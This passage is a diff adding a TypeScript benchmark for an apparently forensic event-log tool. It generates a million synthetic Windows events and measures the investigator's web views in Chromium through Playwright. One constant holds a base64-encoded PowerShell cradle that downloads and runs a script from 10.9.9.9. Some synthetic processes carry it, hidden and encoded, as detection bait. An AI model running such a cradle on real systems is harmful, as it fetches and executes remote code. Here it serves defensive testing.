@@ -1,0 +1,702 @@
+// Benchmark of the investigator's views on a real case (issue 6): a million events, one logon
+// session of 20,000 processes, served by `chainline serve` with the production renderer build
+// and measured in Debian's Chromium through Playwright.
+//
+//   npm run bench:views             (builds the node code and the renderer, then runs)
+//   node dist/node/scripts/bench-views.js [--events N] [--big N] [--dir /tmp/perf-views-bench] [--rebuild]
+//                                         [--only cold|warm] [--runs N] [--json out.json]
+//
+// The evidence (evtx_dump JSON lines) and the imported case are built once under --dir and
+// reused. Each run copies the case to a scratch folder first, so serve never changes the cached
+// one (correlation results it stores would make the next cold run warm).
+//
+// Two timings:
+//   cold — serve started on the case and the page opened at once (the engine may still be
+//          computing the case's analysis: what a user sees on reopening a case);
+//   warm — the page opened once the sessions API answers (what the renderer is responsible for).
+// Targets: sessions list and first table page visible ≤ 1 s after navigation; every frame
+// < 50 ms while scrolling the table top to bottom and while expanding and scrolling the largest
+// process tree; renderer JS heap and RSS < 300 MB.
+
+import { spawn, type ChildProcess } from 'node:child_process';
+import { cpSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
+import { open, rename } from 'node:fs/promises';
+import { loadavg } from 'node:os';
+import { join, resolve } from 'node:path';
+import { chromium, type Browser, type Page } from '@playwright/test';
+import { startEngine } from '../electron/engine/worker/engine-client.js';
+
+const args = process.argv.slice(2);
+const opt = (name: string, fallback: string): string => {
+  const i = args.indexOf(`--${name}`);
+  return i >= 0 && args[i + 1] !== undefined ? (args[i + 1] as string) : fallback;
+};
+const EVENTS = Number(opt('events', '1000000'));
+const BIG = Number(opt('big', '20000'));
+const DIR = opt('dir', '/tmp/perf-views-bench');
+const EVIDENCE = join(DIR, `evidence-${EVENTS}-${BIG}.jsonl`);
+const CASE_DIR = join(DIR, `case-${EVENTS}-${BIG}`);
+const ONLY = opt('only', '');
+/** With --profile DIR: a CDP CPU profile of each measured phase, written there as .cpuprofile. */
+const PROFILE = opt('profile', '');
+const RUNS = Number(opt('runs', '1'));
+const ROOT = resolve(import.meta.dirname, '..', '..', '..');
+const CHROMIUM = process.env['CHAINLINE_CHROMIUM'] ?? '/usr/bin/chromium';
+
+const load = (): string => loadavg().map((x) => x.toFixed(2)).join(' ');
+const seconds = (t0: number): number => (performance.now() - t0) / 1000;
+
+// ---------------------------------------------------------------------------------------------
+// Evidence
+
+function makeRng(seed: number): () => number {
+  let s = seed >>> 0;
+  return () => {
+    s = (s + 0x6d2b79f5) >>> 0;
+    let t = s;
+    t = Math.imul(t ^ (t >>> 15), t | 1);
+    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
+    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
+  };
+}
+
+const IMAGES = [
+  'C:\\Windows\\System32\\cmd.exe',
+  'C:\\Windows\\System32\\conhost.exe',
+  'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
+  'C:\\Windows\\System32\\notepad.exe',
+  'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
+  'C:\\Windows\\System32\\net.exe',
+  'C:\\Windows\\System32\\whoami.exe',
+  'C:\\Windows\\System32\\tasklist.exe',
+];
+const ENC = Buffer.from("IEX (New-Object Net.WebClient).DownloadString('http://10.9.9.9/a')", 'utf16le').toString('base64');
+const SECURITY = ['Microsoft-Windows-Security-Auditing', 'Security'] as const;
+const SYSMON = ['Microsoft-Windows-Sysmon', 'Microsoft-Windows-Sysmon/Operational'] as const;
+
+interface Proc {
+  readonly pid: number;
+  readonly image: string;
+  readonly logonId: string;
+  readonly user: string;
+}
+interface Host {
+  readonly name: string;
+  readonly ip: string;
+  nextPid: number;
+  alive: Proc[];
+  sessions: { logonId: string; user: string }[];
+  nextLogon: number;
+}
+
+/**
+ * The evidence as evtx_dump JSON lines, in time order: 10 hosts; on HOST00 one RDP session whose
+ * user starts BIG processes (a tree several levels deep, parents among the session's recent
+ * processes); about 2,000 other logon sessions with a few processes each, some running encoded
+ * PowerShell (findings); script blocks, service installs; Sysmon network connections fill the rest.
+ * PIDs are never reused, so every parent edge is a plain PID+time match.
+ */
+function* evidenceLines(n: number, big: number, seed = 7): Generator<string> {
+  const rnd = makeRng(seed);
+  const pick = <T>(list: readonly T[]): T => list[Math.floor(rnd() * list.length)] as T;
+  const hosts: Host[] = [];
+  for (let h = 0; h < 10; h++) {
+    hosts.push({ name: `HOST${String(h).padStart(2, '0')}.corp.example`, ip: `10.1.0.${h + 10}`, nextPid: 1000, alive: [], sessions: [], nextLogon: 0x200000 });
+  }
+  const bigHost = hosts[0] as Host;
+  let ms = Date.UTC(2024, 2, 1, 8);
+  let recordId = 0;
+  let emitted = 0;
+  const line = (host: Host, [provider, channel]: readonly [string, string], eventId: number, data: Record<string, string>, processId = 4): string => {
+    emitted++;
+    ms += Math.floor(rnd() * 9);
+    return JSON.stringify({
+      Event: {
+        System: {
+          Provider: { '#attributes': { Name: provider } },
+          EventID: eventId,
+          TimeCreated: { '#attributes': { SystemTime: new Date(ms).toISOString().replace('Z', '') + String(Math.floor(rnd() * 10_000)).padStart(4, '0') + 'Z' } },
+          EventRecordID: ++recordId,
+          Execution: { '#attributes': { ProcessID: processId, ThreadID: 8 } },
+          Channel: channel,
+          Computer: host.name,
+        },
+        EventData: data,
+      },
+    });
+  };
+  const logon = (host: Host, logonId: string, user: string, type: number, src: Host): string =>
+    line(host, SECURITY, 4624, {
+      SubjectLogonId: '0x3e7', TargetUserSid: 'S-1-5-21-1-2-3-1104', TargetUserName: user, TargetDomainName: 'CORP', TargetLogonId: logonId,
+      LogonType: String(type), LogonProcessName: 'User32', AuthenticationPackageName: 'Negotiate', WorkstationName: src.name.split('.')[0] as string,
+      IpAddress: src.ip, IpPort: '50000', ElevatedToken: '%%1842',
+    });
+  const start = (host: Host, parent: Proc | null, logonId: string, user: string, image: string, cmd: string): [string, Proc] => {
+    const pid = (host.nextPid += 4);
+    const proc: Proc = { pid, image, logonId, user };
+    host.alive.push(proc);
+    return [
+      line(host, SECURITY, 4688, {
+        SubjectUserName: user, SubjectDomainName: 'CORP', SubjectLogonId: logonId, NewProcessId: '0x' + pid.toString(16), NewProcessName: image,
+        TokenElevationType: '%%1936', ProcessId: '0x' + (parent ? parent.pid : 0x2ac).toString(16), CommandLine: cmd,
+        TargetLogonId: '0x0', ParentProcessName: parent ? parent.image : 'C:\\Windows\\System32\\userinit.exe', MandatoryLabel: 'S-1-16-8192',
+      }),
+      proc,
+    ];
+  };
+  const command = (image: string, pid: number): string =>
+    image.endsWith('powershell.exe') && rnd() < 0.05 ? `${image} -nop -w hidden -enc ${ENC}` : `"${image}" /c task-${pid} --verbose`;
+
+  // The big session opens first.
+  const bigLogon = '0x1e8480';
+  yield logon(bigHost, bigLogon, 'operator', 10, hosts[5] as Host);
+  const [explorerLine, explorer] = start(bigHost, null, bigLogon, 'operator', 'C:\\Windows\\explorer.exe', 'C:\\Windows\\explorer.exe');
+  yield explorerLine;
+  const bigAlive: Proc[] = [explorer];
+  let bigStarted = 1;
+  // Per emitted event: the chance of a big-session process start, spread over the whole case.
+  const bigRate = big / n;
+  while (emitted < n) {
+    const r = rnd();
+    if (r < bigRate && bigStarted < big) {
+      // Parents among the recent processes (a deep, bushy tree), now and then the shell itself.
+      const parent = rnd() < 0.15 ? explorer : (bigAlive[Math.max(0, bigAlive.length - 1 - Math.floor(rnd() * 50))] as Proc);
+      const image = pick(IMAGES);
+      const [l, proc] = start(bigHost, parent, bigLogon, 'operator', image, command(image, bigHost.nextPid + 4));
+      bigAlive.push(proc);
+      if (bigAlive.length > 400) bigAlive.splice(1, 1);
+      bigStarted++;
+      yield l;
+      continue;
+    }
+    const h = pick(hosts);
+    const q = rnd();
+    if (q < 0.0025) {
+      // A new logon session (with its 4672 when elevated).
+      const logonId = '0x' + (h.nextLogon++).toString(16);
+      const user = `user${Math.floor(rnd() * 300)}`;
+      h.sessions.push({ logonId, user });
+      if (h.sessions.length > 50) h.sessions.shift();
+      yield logon(h, logonId, user, pick([2, 3, 3, 10]), pick(hosts));
+      if (rnd() < 0.3) yield line(h, SECURITY, 4672, { SubjectUserName: user, SubjectDomainName: 'CORP', SubjectLogonId: logonId, PrivilegeList: 'SeDebugPrivilege' });
+    } else if (q < 0.0045 && h.sessions.length > 0) {
+      const s = pick(h.sessions);
+      const own = h.alive.filter((p) => p.logonId === s.logonId);
+      const parent = own.length > 0 && rnd() < 0.6 ? pick(own) : null;
+      const image = pick(IMAGES);
+      const [l] = start(h, parent, s.logonId, s.user, image, command(image, h.nextPid + 4));
+      if (h.alive.length > 300) h.alive.splice(0, 1);
+      yield l;
+    } else if (q < 0.0055 && h.sessions.length > 5) {
+      const i = Math.floor(rnd() * h.sessions.length);
+      const s = h.sessions[i] as { logonId: string };
+      h.sessions.splice(i, 1);
+      yield line(h, SECURITY, 4634, { TargetUserName: 'user', TargetDomainName: 'CORP', TargetLogonId: s.logonId, LogonType: '3' });
+    } else if (q < 0.04) {
+      const alive = h === bigHost && rnd() < 0.5 ? bigAlive : h.alive;
+      if (alive.length === 0) continue;
+      const p = pick(alive);
+      const total = 1 + Math.floor(rnd() * 2);
+      const id = `{${(recordId + 1).toString(16).padStart(8, '0')}-0000-4000-8000-000000000000}`;
+      for (let m = 1; m <= total && emitted < n; m++) {
+        yield line(h, ['Microsoft-Windows-PowerShell', 'Microsoft-Windows-PowerShell/Operational'], 4104, {
+          MessageNumber: String(m), MessageTotal: String(total), ScriptBlockText: `Get-ChildItem C:\\Users\\${p.user} -Recurse | Select-Object -First ${m}`,
+          ScriptBlockId: id, Path: '',
+        }, p.pid);
+      }
+    } else if (q < 0.04003) {
+      const name = `Svc${recordId}`;
+      yield line(h, ['Service Control Manager', 'System'], 7045, { ServiceName: name, ImagePath: `C:\\ProgramData\\${name}.exe`, ServiceType: 'user mode service', StartType: 'auto start', AccountName: 'LocalSystem' });
+    } else {
+      const alive = h === bigHost && rnd() < 0.5 ? bigAlive : h.alive;
+      if (alive.length === 0) continue;
+      const p = pick(alive);
+      const dest = pick(hosts);
+      yield line(h, SYSMON, 3, {
+        RuleName: '-', UtcTime: new Date(ms).toISOString(), ProcessGuid: '', ProcessId: String(p.pid), Image: p.image, User: `CORP\\${p.user}`,
+        Protocol: 'tcp', Initiated: 'true', SourceIsIpv6: 'false', SourceIp: h.ip, SourceHostname: h.name, SourcePort: String(49152 + Math.floor(rnd() * 16000)),
+        DestinationIsIpv6: 'false', DestinationIp: dest.ip, DestinationHostname: dest.name, DestinationPort: pick(['445', '443', '5985', '135']),
+      }, 2000);
+    }
+  }
+}
+
+async function writeEvidence(): Promise<void> {
+  const t0 = performance.now();
+  const file = await open(EVIDENCE + '.part', 'w');
+  let chunk: string[] = [];
+  let written = 0;
+  for (const l of evidenceLines(EVENTS, BIG)) {
+    chunk.push(l);
+    written++;
+    if (chunk.length >= 20_000) {
+      await file.write(chunk.join('\n') + '\n');
+      chunk = [];
+    }
+  }
+  if (chunk.length) await file.write(chunk.join('\n') + '\n');
+  await file.close();
+  await rename(EVIDENCE + '.part', EVIDENCE);
+  console.log(`evidence: ${written} events, ${(statSync(EVIDENCE).size / 2 ** 20).toFixed(0)} MiB in ${seconds(t0).toFixed(1)} s`);
+}
+
+async function buildCase(): Promise<void> {
+  const t0 = performance.now();
+  rmSync(CASE_DIR, { recursive: true, force: true });
+  const engine = startEngine();
+  try {
+    await engine.openCase(CASE_DIR, { name: `views bench ${EVENTS}` });
+    await engine.setRuleFolders({ dirs: [], builtin: true });
+    await engine.openEvidence({ paths: [EVIDENCE] });
+    const status = await engine.waitForIngest();
+    if (status.phase !== 'done') throw new Error(`import ${status.phase}: ${status.message}`);
+    console.log(`case: ${status.events} events imported in ${seconds(t0).toFixed(1)} s (${status.errors} errors)`);
+    // Compute (and let the engine keep, where it stores it) the analysis once.
+    const t1 = performance.now();
+    const sessions = await engine.listSessions();
+    console.log(`analysis: ${sessions.sessions.length} sessions in ${seconds(t1).toFixed(1)} s`);
+  } finally {
+    await engine.shutdown();
+  }
+}
+
+// ---------------------------------------------------------------------------------------------
+// Serve and measure
+
+interface Served {
+  readonly url: string;
+  readonly origin: string;
+  readonly token: string;
+  readonly child: ChildProcess;
+  stop(): Promise<void>;
+}
+
+async function startServe(caseDir: string, dataDir: string): Promise<Served> {
+  const child = spawn(process.execPath, [join(ROOT, 'bin', 'chainline.js'), 'serve', '--no-open', '--case', caseDir], {
+    cwd: ROOT,
+    env: { ...process.env, CHAINLINE_DATA_DIR: dataDir },
+    stdio: ['ignore', 'pipe', 'pipe'],
+  });
+  let stderr = '';
+  child.stderr?.on('data', (d: Buffer) => (stderr += d.toString()));
+  const url = await new Promise<string>((ok, fail) => {
+    let stdout = '';
+    const timer = setTimeout(() => fail(new Error(`serve printed no URL in 120 s:\n${stderr}`)), 120_000);
+    child.stdout?.on('data', (d: Buffer) => {
+      stdout += d.toString();
+      const m = /Chainline is serving (http:\/\/127\.0\.0\.1:\d+\/\?token=[A-Za-z0-9_-]+)/.exec(stdout);
+      if (m) {
+        clearTimeout(timer);
+        ok(m[1] as string);
+      }
+    });
+    child.once('exit', (code) => {
+      clearTimeout(timer);
+      fail(new Error(`serve exited with ${code}:\n${stderr}`));
+    });
+  });
+  const parsed = new URL(url);
+  return {
+    url,
+    origin: parsed.origin,
+    token: parsed.searchParams.get('token') ?? '',
+    child,
+    stop: async () => {
+      if (child.exitCode !== null) return;
+      const exited = new Promise<void>((r) => child.once('exit', () => r()));
+      child.kill('SIGTERM');
+      await exited;
+    },
+  };
+}
+
+async function callApi(s: Served, method: string, callArgs: unknown[] = []): Promise<unknown> {
+  const response = await fetch(`${s.origin}/api/${method}`, {
+    method: 'POST',
+    headers: { 'Content-Type': 'application/json', 'X-Chainline-Token': s.token },
+    body: JSON.stringify({ args: callArgs }),
+  });
+  const body = (await response.json()) as { result?: unknown; error?: unknown };
+  if (body.error !== undefined) throw new Error(`${method}: ${JSON.stringify(body.error)}`);
+  return body.result;
+}
+
+interface FrameStats {
+  readonly frames: number;
+  readonly max: number;
+  readonly p95: number;
+  readonly over50: number;
+  /** Long tasks (> 50 ms) the page reported during the interval, and the longest. */
+  readonly longTasks: number;
+  readonly longestTask: number;
+  /** Deltas over the phase, ms: renderer process CPU, main-thread tasks, script, layout, style. */
+  readonly cpuMs?: number;
+  readonly taskMs?: number;
+  readonly scriptMs?: number;
+  readonly layoutMs?: number;
+  readonly styleMs?: number;
+}
+
+// In-page code runs in Chromium; it is written as strings because the node build has no DOM types.
+const START_FRAMES = `(() => {
+  const w = window;
+  w.__frames = [];
+  w.__long = [];
+  w.__on = true;
+  if (w.__obs) w.__obs.disconnect();
+  w.__obs = new PerformanceObserver((list) => { for (const e of list.getEntries()) w.__long.push(e.duration); });
+  w.__obs.observe({ type: 'longtask' });
+  w.__last = performance.now();
+  const tick = (t) => { w.__frames.push(t - w.__last); w.__last = t; if (w.__on) requestAnimationFrame(tick); };
+  requestAnimationFrame(tick);
+})()`;
+const STOP_FRAMES = `(() => {
+  const w = window;
+  w.__on = false;
+  if (w.__obs) w.__obs.disconnect();
+  const f = w.__frames.slice(1).sort((a, b) => a - b);
+  return {
+    frames: f.length,
+    max: Math.round(f[f.length - 1] ?? 0),
+    p95: Math.round(f[Math.floor(f.length * 0.95)] ?? 0),
+    over50: f.filter((x) => x > 50).length,
+    longTasks: w.__long.length,
+    longestTask: Math.round(Math.max(0, ...w.__long)),
+  };
+})()`;
+
+/** Records frame durations (rAF deltas) and long tasks in the page until stopFrames. */
+async function startFrames(page: Page): Promise<void> {
+  await page.evaluate(START_FRAMES);
+}
+
+async function stopFrames(page: Page): Promise<FrameStats> {
+  return (await page.evaluate(STOP_FRAMES)) as FrameStats;
+}
+
+/** Scrolls `selector` from top to bottom in `steps` steps, one per frame. */
+async function scrollThrough(page: Page, selector: string, steps: number): Promise<void> {
+  await page.evaluate(`(async () => {
+    const el = document.querySelector(${JSON.stringify(selector)});
+    for (let i = 1; i <= ${steps}; i++) {
+      el.scrollTop = ((el.scrollHeight - el.clientHeight) * i) / ${steps};
+      await new Promise((r) => requestAnimationFrame(() => r(null)));
+    }
+  })()`);
+}
+
+function rssOfTree(pids: readonly number[]): number {
+  let kb = 0;
+  for (const pid of pids) {
+    try {
+      const m = /VmRSS:\s+(\d+) kB/.exec(readFileSync(`/proc/${pid}/status`, 'utf8'));
+      if (m) kb += Number(m[1]);
+    } catch {
+      // gone
+    }
+  }
+  return kb / 1024;
+}
+
+/** The renderer processes of the browser (Chromium's --type=renderer children), by pid. */
+function rendererPids(browserPid: number): number[] {
+  const out: number[] = [];
+  const walk = (pid: number): void => {
+    let children: string[] = [];
+    try {
+      children = readFileSync(`/proc/${pid}/task/${pid}/children`, 'utf8').trim().split(/\s+/).filter(Boolean);
+    } catch {
+      return;
+    }
+    for (const c of children.map(Number)) {
+      try {
+        const cmd = readFileSync(`/proc/${c}/cmdline`, 'utf8');
+        if (cmd.includes('--type=renderer') && !cmd.includes('--extension-process')) out.push(c);
+      } catch {
+        // gone
+      }
+      walk(c);
+    }
+  };
+  walk(browserPid);
+  return out;
+}
+
+type Figures = Record<string, unknown>;
+
+/**
+ * Serves a fresh copy of the case and measures the page: once for cold (opened at once), `runs`
+ * times for warm (after the analysis is ready). With `variants` (renderer build folders), each
+ * warm run is repeated per variant, copied into dist/renderer first (serve reads the files on
+ * every request): back-to-back A/B runs on one engine.
+ */
+async function measure(mode: 'cold' | 'warm', runs: number, variants: readonly string[]): Promise<Figures[]> {
+  const scratch = mkdtempSync('/tmp/perf-views-run-');
+  const caseCopy = join(scratch, 'case');
+  cpSync(CASE_DIR, caseCopy, { recursive: true });
+  const serveStart = performance.now();
+  const served = await startServe(caseCopy, join(scratch, 'data'));
+  const browser = await chromium.launch({
+    executablePath: CHROMIUM,
+    args: ['--no-sandbox', '--disable-gpu', '--disable-quic', '--disable-background-networking', '--disable-component-update', '--disable-sync', '--no-first-run', '--enable-precise-memory-info'],
+  });
+  const out: Figures[] = [];
+  try {
+    let ready: Figures = {};
+    if (mode === 'warm') {
+      const t0 = performance.now();
+      await callApi(served, 'listSessions');
+      ready = { analysisReadyAfterServeS: Number(seconds(serveStart).toFixed(1)), listSessionsApiS: Number(seconds(t0).toFixed(1)) };
+      // Detection's summary and the overview too: warm means every engine cache the first screen uses.
+      const t1 = performance.now();
+      await callApi(served, 'getFindingsSummary');
+      await callApi(served, 'getCaseOverview');
+      ready['findingsAndOverviewApiS'] = Number(seconds(t1).toFixed(1));
+    }
+    // Cold is measured once, on the last variant (the others would find the engine warm).
+    const list = variants.length === 0 ? [''] : mode === 'cold' ? variants.slice(-1) : variants;
+    for (let run = 0; run < (mode === 'cold' ? 1 : runs); run++) {
+      for (const variant of list) {
+        if (variant !== '') {
+          rmSync(join(ROOT, 'dist', 'renderer'), { recursive: true, force: true });
+          cpSync(variant, join(ROOT, 'dist', 'renderer'), { recursive: true });
+        }
+        const figures: Figures = { mode, run: run + 1, variant, loadavgBefore: load(), ...ready };
+        try {
+          await pageRun(browser, served, figures);
+        } catch (e) {
+          figures['error'] = e instanceof Error ? e.message.split('\n')[0] : String(e);
+        }
+        console.log(verdict(figures));
+        out.push(figures);
+      }
+    }
+  } finally {
+    await browser.close();
+    await served.stop();
+    rmSync(scratch, { recursive: true, force: true });
+  }
+  return out;
+}
+
+async function pageRun(browser: Browser, served: Served, figures: Figures): Promise<void> {
+  const mode = figures['mode'] as string;
+  {
+    const context = await browser.newContext({ viewport: { width: 1440, height: 900 } });
+    const page = await context.newPage();
+    const cdp = await context.newCDPSession(page);
+    await cdp.send('Performance.enable');
+    /** Renderer CPU and main-thread work (CDP Performance.getMetrics): less load-dependent than frame times. */
+    const metrics = async (): Promise<Record<string, number>> => {
+      const m = (await cdp.send('Performance.getMetrics')) as { metrics: { name: string; value: number }[] };
+      return Object.fromEntries(m.metrics.map((x) => [x.name, x.value]));
+    };
+    let phaseStart: Record<string, number> = {};
+    const phaseBegin = async (): Promise<void> => {
+      phaseStart = await metrics();
+    };
+    const phaseEnd = async (frames: FrameStats): Promise<FrameStats> => {
+      const now = await metrics();
+      const d = (k: string): number => Math.round(((now[k] ?? 0) - (phaseStart[k] ?? 0)) * 1000);
+      return { ...frames, cpuMs: d('ProcessTime'), taskMs: d('TaskDuration'), scriptMs: d('ScriptDuration'), layoutMs: d('LayoutDuration'), styleMs: d('RecalcStyleDuration') };
+    };
+    let profiling = '';
+    const profileStart = async (name: string): Promise<void> => {
+      if (PROFILE === '') return;
+      profiling = name;
+      await cdp.send('Profiler.enable');
+      await cdp.send('Profiler.setSamplingInterval', { interval: 200 });
+      await cdp.send('Profiler.start');
+    };
+    const profileStop = async (): Promise<void> => {
+      if (PROFILE === '' || profiling === '') return;
+      const { profile } = (await cdp.send('Profiler.stop')) as { profile: unknown };
+      mkdirSync(PROFILE, { recursive: true });
+      writeFileSync(join(PROFILE, `${mode}-${figures['run']}-${profiling}.cpuprofile`), JSON.stringify(profile));
+      profiling = '';
+    };
+    const nav0 = Date.now();
+    const cpu0 = (await metrics())['ProcessTime'] ?? 0;
+    const cpuSince = async (): Promise<number> => Math.round((((await metrics())['ProcessTime'] ?? 0) - cpu0) * 1000);
+    await page.goto(served.url);
+    // Each on its own: the table does not wait for the sessions (a cold engine correlates first).
+    // The renderer's own CPU until then too (the wall time includes waiting for the engine and,
+    // on a loaded machine, for a core).
+    await Promise.all([
+      page.getByTestId('session-row').first().waitFor({ state: 'visible', timeout: 600_000 }).then(async () => {
+        figures['sessionsVisibleMs'] = Date.now() - nav0;
+        figures['sessionsVisibleCpuMs'] = await cpuSince();
+      }),
+      page.getByTestId('event-row').first().waitFor({ state: 'visible', timeout: 600_000 }).then(async () => {
+        figures['firstTablePageMs'] = Date.now() - nav0;
+        figures['firstTablePageCpuMs'] = await cpuSince();
+      }),
+    ]);
+    figures['total'] = Number(await page.getByTestId('filter-total').getAttribute('data-count'));
+    // Where the time to the first screen went: each API call and script, from navigation start.
+    figures['startupRequests'] = await page.evaluate(
+      `performance.getEntriesByType('resource').map((e) => e.name.replace(/^.*\\/(api|assets)\\//, '$1/').replace(/\\?.*$/, '') + ' ' + Math.round(e.startTime) + '+' + Math.round(e.duration)).join(', ')`,
+    );
+    await page.waitForTimeout(1000);
+
+    // The table, top to bottom in 300 steps, one per frame; then the last rows arrive.
+    await profileStart('table-scroll');
+    await phaseBegin();
+    await startFrames(page);
+    await scrollThrough(page, '.et-scroll', 300);
+    await page.waitForTimeout(500);
+    figures['tableScroll'] = await phaseEnd(await stopFrames(page));
+    await profileStop();
+    const t0 = Date.now();
+    const lastIndex = (figures['total'] as number) + 1;
+    for (;;) {
+      const shown = await page.evaluate(
+        `[...document.querySelectorAll('[data-testid="event-row"]')].some((r) => Number(r.getAttribute('aria-rowindex')) === ${lastIndex})`,
+      );
+      if (shown === true) break;
+      if (Date.now() - t0 > 120_000) {
+        await page.screenshot({ path: join(DIR, `fail-${mode}.png`) });
+        throw new Error('the last rows of the table did not arrive in 120 s');
+      }
+      await page.waitForTimeout(50);
+    }
+    figures['lastPageMs'] = Date.now() - t0;
+
+    // The session with the most processes: its tree, collapsed, then expand-all, then scroll it.
+    await page.getByTestId('session-sort').selectOption('processes');
+    await page.waitForTimeout(300);
+    const bigRow = page.getByTestId('session-row').first();
+    figures['bigSession'] = await bigRow.getAttribute('data-session-id');
+    // The chain of a busy session is engine work (hundreds of thousands of steps): timed apart.
+    const chainAt = Date.now();
+    const chainDone = page
+      .waitForResponse((r) => r.url().includes('/api/getSessionChain'), { timeout: 600_000 })
+      .then(async (r) => {
+        await r.finished();
+        figures['chainResponseMs'] = Date.now() - chainAt;
+        const length = Number((await r.allHeaders())['content-length'] ?? NaN);
+        figures['chainMB'] = Number.isFinite(length) ? Number((length / 2 ** 20).toFixed(1)) : '?';
+      });
+    await bigRow.click();
+    await page.getByTestId('view-tab-tree').waitFor({ state: 'visible', timeout: 120_000 });
+    await profileStart('tree-open');
+    await phaseBegin();
+    await startFrames(page);
+    const t1 = Date.now();
+    await page.getByTestId('view-tab-tree').click();
+    await page.getByTestId('tree-row').first().waitFor({ state: 'visible', timeout: 300_000 });
+    figures['treeOpenMs'] = Date.now() - t1;
+    await page.waitForTimeout(300);
+    figures['treeOpenFrames'] = await phaseEnd(await stopFrames(page));
+    await profileStop();
+    // The rest on the whole tree: the chain adds the processes of the sessions it led to.
+    await chainDone;
+    await page.waitForTimeout(1000);
+    figures['treeProcesses'] = await page.locator('.tree-view .view-toolbar .small.muted').last().textContent();
+    await page.getByTestId('tree-collapse-all').click();
+    await page.waitForTimeout(300);
+    await profileStart('expand-all');
+    await phaseBegin();
+    await startFrames(page);
+    const t2 = Date.now();
+    await page.getByTestId('tree-expand-all').click();
+    await page.locator('[data-testid="tree-row"][aria-level="3"]').first().waitFor({ state: 'visible' });
+    figures['expandAllMs'] = Date.now() - t2;
+    await page.waitForTimeout(300);
+    figures['expandAllFrames'] = await phaseEnd(await stopFrames(page));
+    await profileStop();
+    await profileStart('tree-scroll');
+    await phaseBegin();
+    await startFrames(page);
+    await scrollThrough(page, '.tree-scroll', 300);
+    await page.waitForTimeout(300);
+    figures['treeScroll'] = await phaseEnd(await stopFrames(page));
+    await profileStop();
+
+    const before = (await cdp.send('Performance.getMetrics')) as { metrics: { name: string; value: number }[] };
+    figures['jsHeapUsedMB'] = Math.round((before.metrics.find((m) => m.name === 'JSHeapUsedSize')?.value ?? 0) / 2 ** 20);
+    figures['jsHeapTotalMB'] = Math.round((before.metrics.find((m) => m.name === 'JSHeapTotalSize')?.value ?? 0) / 2 ** 20);
+    await cdp.send('HeapProfiler.collectGarbage');
+    const after = (await cdp.send('Performance.getMetrics')) as { metrics: { name: string; value: number }[] };
+    figures['jsHeapUsedAfterGcMB'] = Math.round((after.metrics.find((m) => m.name === 'JSHeapUsedSize')?.value ?? 0) / 2 ** 20);
+    figures['domNodes'] = after.metrics.find((m) => m.name === 'Nodes')?.value;
+    const ctxPid = findChromiumPid();
+    if (ctxPid !== undefined) {
+      const pids = rendererPids(ctxPid);
+      figures['rendererRssMB'] = Math.round(Math.max(0, ...pids.map((p) => rssOfTree([p]))));
+    }
+    figures['loadavgAfter'] = load();
+    await context.close();
+  }
+}
+
+/** Playwright's chromium.launch does not expose the pid: find the newest Chromium started by us. */
+function findChromiumPid(): number | undefined {
+  const walk = (pid: number): number | undefined => {
+    let children: string[] = [];
+    try {
+      children = readFileSync(`/proc/${pid}/task/${pid}/children`, 'utf8').trim().split(/\s+/).filter(Boolean);
+    } catch {
+      return undefined;
+    }
+    for (const c of children.map(Number)) {
+      try {
+        const cmd = readFileSync(`/proc/${c}/cmdline`, 'utf8');
+        if (cmd.includes('chromium') && !cmd.includes('--type=')) return c;
+      } catch {
+        // gone
+      }
+      const found = walk(c);
+      if (found !== undefined) return found;
+    }
+    return undefined;
+  };
+  return walk(process.pid);
+}
+
+function verdict(f: Figures): string {
+  const frames = (k: string): FrameStats | undefined => f[k] as FrameStats | undefined;
+  const ok = (b: boolean): string => (b ? 'met' : 'NOT met');
+  const lines = [
+    `${f['mode']}${f['variant'] ? ' ' + String(f['variant']) : ''} run ${f['run']} (load ${f['loadavgBefore']} → ${f['loadavgAfter']})` +
+      (f['analysisReadyAfterServeS'] !== undefined ? `; analysis ready ${f['analysisReadyAfterServeS']} s after serve started` : ''),
+    `  sessions list visible   ${f['sessionsVisibleMs']} ms (renderer CPU ${f['sessionsVisibleCpuMs']} ms)   target ≤ 1000 ms: ${ok((f['sessionsVisibleMs'] as number) <= 1000)}`,
+    `  first table page        ${f['firstTablePageMs']} ms (renderer CPU ${f['firstTablePageCpuMs']} ms)   target ≤ 1000 ms: ${ok((f['firstTablePageMs'] as number) <= 1000)}   (${f['total']} events)`,
+  ];
+  for (const [k, label] of [
+    ['tableScroll', 'table scroll          '],
+    ['treeOpenFrames', 'tree open             '],
+    ['expandAllFrames', 'tree expand-all       '],
+    ['treeScroll', 'tree scroll           '],
+  ] as const) {
+    const s = frames(k);
+    if (!s) continue;
+    lines.push(`  ${label}  max frame ${s.max} ms, p95 ${s.p95} ms, ${s.over50}/${s.frames} frames > 50 ms, long tasks ${s.longTasks} (longest ${s.longestTask} ms); renderer CPU ${s.cpuMs} ms = ${s.frames ? ((s.cpuMs ?? 0) / s.frames).toFixed(1) : '?'} ms/frame (script ${s.scriptMs}, layout ${s.layoutMs}, style ${s.styleMs})   target every frame < 50 ms: ${ok(s.max < 50)}`);
+  }
+  if (f['startupRequests'] !== undefined) lines.push(`  startup requests (start+duration ms): ${f['startupRequests']}`);
+  if (f['error'] !== undefined) lines.push(`  FAILED: ${f['error']}`);
+  lines.push(`  tree: ${f['treeProcesses']}; session chain answered in ${f['chainResponseMs']} ms (${f['chainMB']} MB, engine); tree open ${f['treeOpenMs']} ms, expand-all ${f['expandAllMs']} ms (session ${f['bigSession']})`);
+  lines.push(
+    `  memory: JS heap ${f['jsHeapUsedMB']} MB used (${f['jsHeapUsedAfterGcMB']} MB after GC, ${f['jsHeapTotalMB']} MB allocated), renderer RSS ${f['rendererRssMB'] ?? '?'} MB, ${f['domNodes']} DOM nodes   target < 300 MB: ${ok(((f['rendererRssMB'] as number | undefined) ?? (f['jsHeapUsedMB'] as number)) < 300)}`,
+  );
+  return lines.join('\n');
+}
+
+async function main(): Promise<void> {
+  console.log(`load average at start: ${load()}`);
+  mkdirSync(DIR, { recursive: true });
+  if (args.includes('--rebuild')) rmSync(CASE_DIR, { recursive: true, force: true });
+  if (!existsSync(EVIDENCE)) await writeEvidence();
+  if (!existsSync(join(CASE_DIR, 'case.json'))) await buildCase();
